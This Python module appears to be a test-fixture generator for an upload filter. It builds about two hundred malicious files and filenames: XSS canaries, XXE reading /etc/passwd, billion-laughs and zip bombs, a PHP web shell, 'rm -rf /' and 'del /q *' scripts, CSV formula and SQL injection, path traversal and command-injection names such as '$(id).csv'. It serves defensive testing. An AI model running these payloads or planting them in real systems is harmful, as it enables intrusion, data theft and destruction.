"""Two hundred files that nobody should send, made here: what they hold, under which name, as which type (SECT-23).

Whatever a browser, a spreadsheet or a shell could run of them says CANARY when it is shown as it is.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from typing import NamedTuple

CANARY = "c4n4ry-of-the-uploads"
SCRIPT = f"<script>alert('{CANARY}')</script>"
# Where the photograph was taken, as a reader of its EXIF would find it.
POSITION = b"48/1, 51/1, 2957/100"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_HEAD = "adresse;nom;prénom;profession\n"
EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class File(NamedTuple):
    kind: str
    name: str
    type: str
    content: bytes


def zipped(parts: dict[str, bytes]) -> bytes:
    paper = io.BytesIO()
    with zipfile.ZipFile(paper, "w", zipfile.ZIP_DEFLATED) as folder:
        for name, content in parts.items():
            folder.writestr(name, content)
    return paper.getvalue()


def workbook(sheet: str = "", *, doctype: str = "", **more: bytes) -> bytes:
    """Return the least that a spreadsheet takes for a workbook; `doctype` comes before its sheet."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="xml" '
        'ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        f'relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{XLSX}.main+xml"/><Override '
        'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {space} xmlns:r="{office}"><sheets><sheet name="Niveaux" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"{doctype}<worksheet {space}><sheetData>{sheet}</sheetData></worksheet>",
    }
    return zipped({name: said.encode() for name, said in parts.items()} | more)


def cells(text: str, *, formula: str = "") -> str:
    said = f"<f>{formula}</f>" if formula else ""
    return f'<row r="1"><c r="A1" t="inlineStr">{said}<is><t>{text}</t></is></c></row>'


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
)  # fmt: skip
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def png(*, text: bytes) -> bytes:
    """Return a picture of one point with a comment."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        sealed = kind + content
        return struct.pack(">I", len(content)) + sealed + struct.pack(">I", zlib.crc32(sealed))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        [chunk(b"IHDR", head), chunk(b"tEXt", b"Comment\0" + text), chunk(b"IDAT", zlib.compress(b"\0\0")),
         chunk(b"IEND", b"")]
    )  # fmt: skip


def photograph() -> bytes:
    """Return the beginning of a JPEG whose EXIF says where it was taken, and whose comment is a script."""
    exif = b"Exif\0\0MM\0*\0\0\0\x08GPSLatitude\0" + POSITION
    comment = SCRIPT.encode()
    return (
        b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
        + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + b"\xff\xd9"
    )  # fmt: skip


@cache
def contents() -> dict[str, tuple[str, str, bytes]]:
    """{kind: (its own ending, its own type, what it holds)}."""
    zeros = b"\0" * 60_000_000
    long_row = "".join(f'<c r="A{n}" t="inlineStr"><is><t>x</t></is></c>' for n in range(1, 400))
    text = {
        "page": ("html", "text/html", f"<!DOCTYPE html><body>{SCRIPT}"),
        "page without a name": ("htm", "text/html", f"<img src=x onerror=\"alert('{CANARY}')\">"),
        "drawing": ("svg", "image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'),
        "drawing that loads": ("svg", "image/svg+xml", f"<svg onload=\"alert('{CANARY}')\"/>"),
        "style sheet of a page": ("xsl", "text/xml", f"<?xml-stylesheet href=\"javascript:alert('{CANARY}')\"?><x/>"),
        "entity from outside": ("xml", "text/xml", f"{OUTSIDE}<x>&e;</x>"),
        "billion laughs": ("xml", "text/xml", f"{LAUGHS}<x>&j;</x>"),
        "script": ("js", "text/javascript", f"alert('{CANARY}')//"),
        "php": ("php", "application/x-php", f"<?php system($_GET['c']); ?>{SCRIPT}"),
        "jsp": ("jsp", "text/plain", '<% Runtime.getRuntime().exec("id"); %>'),
        "template": ("html", "text/html", "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}"),
        "shell": ("sh", "application/x-sh", "#!/bin/sh\nrm -rf /\n"),
        "batch": ("bat", "text/plain", "@echo off\r\ndel /q *\r\n"),
        "shortcut": ("url", "text/plain", "[InternetShortcut]\r\nURL=file://elsewhere/share\r\n"),
        "rules of a server": (".htaccess", "text/plain", "AddType application/x-httpd-php .csv\n"),
        "virus of a test": ("com", "application/octet-stream", EICAR),
        "formula": ("csv", "text/csv", CSV_HEAD + "=cmd|' /C calc'!A0;@SUM(1);+1;-1\n"),
        "link of a formula": ("csv", "text/csv", CSV_HEAD + '=HYPERLINK("http://elsewhere.example?"&A1);x;y;z\n'),
        "script in a cell": ("csv", "text/csv", CSV_HEAD + f"{SCRIPT};{SCRIPT};{SCRIPT};{SCRIPT}\n"),
        "statement in a cell": ("csv", "text/csv", CSV_HEAD + "x'; DROP TABLE accounts_user; --;a;b;c\n"),
        "turned text": ("csv", "text/csv", CSV_HEAD + "a@ms-exemple.example;\u202egnp.exe;\u2066x;60\n"),
        "one long line": ("csv", "text/csv", "a" * 90_000),
        "many lines": ("csv", "text/csv", "a;b;c;d\n" * 12_000),
        "many columns": ("csv", "text/csv", ";" * 90_000),
        "open quotes": ("csv", "text/csv", '"' * 4_001 + "\n" + '"a;"b;"c'),
        "letter": ("eml", "message/rfc822", f"From: a@b.example\r\nContent-Type: text/html\r\n\r\n{SCRIPT}"),
        "rich text": ("rtf", "application/rtf", r"{\rtf1{\object\objautlink\objupdate\objdata 01050000}}"),
        "calendar": ("ics", "text/calendar", f"BEGIN:VCALENDAR\r\nX-ALT-DESC;FMTTYPE=text/html:{SCRIPT}\r\n"),
        "json": ("json", "application/json", '{"__proto__": {"x": 1}}' + "[" * 5_000),
        "nothing": ("csv", "text/csv", ""),
        "blank": ("csv", "text/csv", " \r\n\t\r\n \u00a0\n"),
    }
    return {kind: (end, type, said.encode()) for kind, (end, type, said) in text.items()} | {
        "program for Windows": ("exe", "application/x-msdownload", b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0"),
        "program for Linux": ("elf", "application/x-executable", b"\x7fELF\x02\x01\x01" + b"\0" * 57),
        "program of a page": ("swf", "application/x-shockwave-flash", b"FWS\x09" + b"\0" * 40),
        "class": ("class", "application/java-vm", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 20),
        "document that runs": ("pdf", "application/pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert"
                               b"('" + CANARY.encode() + b"'))>>>>endobj\n%%EOF"),
        "picture and script": ("gif", "image/gif", b"GIF89a/*\0\0\0\0*/=1;alert('" + CANARY.encode() + b"');"),
        "picture and page": ("png", "image/png", png(text=SCRIPT.encode())),
        "photograph": ("jpg", "image/jpeg", photograph()),
        "old workbook": ("xls", "application/vnd.ms-excel", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504),
        "bomb": ("zip", "application/zip", zipped({"zeros": zeros})),
        "bomb in a workbook": ("xlsx", XLSX, workbook(cells("x"), **{"xl/media/zeros.bin": zeros})),
        "laughs in a workbook": ("xlsx", XLSX, workbook(cells("&j;"), doctype=LAUGHS)),
        "entity in a workbook": ("xlsx", XLSX, workbook(cells("&e;"), doctype=OUTSIDE)),
        "macros": ("xlsm", XLSX, workbook(cells("x"), **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Auto_Open"})),
        "formula in a workbook": ("xlsx", XLSX, workbook(cells("x", formula="cmd|' /C calc'!A0"))),
        "script in a workbook": ("xlsx", XLSX, workbook(cells(SCRIPT.replace("<", "&lt;")))),
        "way up in a workbook": ("xlsx", XLSX, workbook(cells("x"), **{"../../../tmp/way-up": b"x"})),
        "wide workbook": ("xlsx", XLSX, workbook(f'<row r="1">{long_row}</row>')),
        "workbook without a sheet": ("xlsx", XLSX, zipped({"xl/workbook.xml": b"<workbook/>"})),
        "archive in an archive": ("zip", "application/zip", zipped({"a.zip": zipped({"b.csv": b"x"})})),
        "java archive": ("jar", "application/java-archive", zipped({"META-INF/MANIFEST.MF": b"Main-Class: X\n"})),
        "cut archive": ("xlsx", XLSX, workbook(cells("x"))[:-30]),
        "zero bytes": ("csv", "text/csv", CSV_HEAD.encode() + b"a\0b@ms-exemple.example;c\0;d;60\n"),
        "not UTF-8": ("csv", "text/csv", b"\xff\xfe\xfd;\xc3\x28;\x80\x81\n"),
        "wide text": ("csv", "text/csv", (CSV_HEAD + "a;b;c;d").encode("utf-16")),
        "seven bits": ("csv", "text/csv", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-;a;b;c\n"),
        "control signs": ("csv", "text/csv", bytes(range(1, 32)) + b";a;b;c\n"),
        "compressed": ("gz", "application/gzip", b"\x1f\x8b\x08\0" + b"\0" * 30),
        "photograph of nothing": ("heic", "image/heic", b"\0\0\0\x18ftypheic" + POSITION),
    }  # fmt: skip


NAMES = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/cron.d/x.csv", "C:\\autoexec.csv", "x.csv\0.html", ".csv",
    f"<img src=x onerror=alert('{CANARY}')>.csv", "x.csv.exe", "x.xlsx.php", "a" * 240 + ".csv", "con.csv",
    "\u202evsc.exe", "x;y.csv", "x%2e%2e%2fy.xlsx", "x.XLSX", "{{7*7}}.csv", "x' OR 1=1 --.csv", "|id.csv",
    "$(id).csv",
)  # fmt: skip


def corpus() -> Iterator[File]:
    """Yield every content under its own name, as what the screens take, and under a name that is itself an attack."""
    held = contents()
    chance = random.Random(23)
    for kind, (ending, type, content) in held.items():
        yield File(kind, ending if ending.startswith(".") else f"x.{ending}", type, content)
        yield File(f"{kind}, as CSV", "x.csv", "text/csv", content)
        yield File(f"{kind}, as XLSX", "x.xlsx", XLSX, content)
        yield File(f"{kind}, badly named", chance.choice(NAMES), chance.choice(("text/html", type, "")), content)
    for name in NAMES:
        yield File(f"named {name[:20]!r}", name, "text/csv", held["script in a cell"][2])
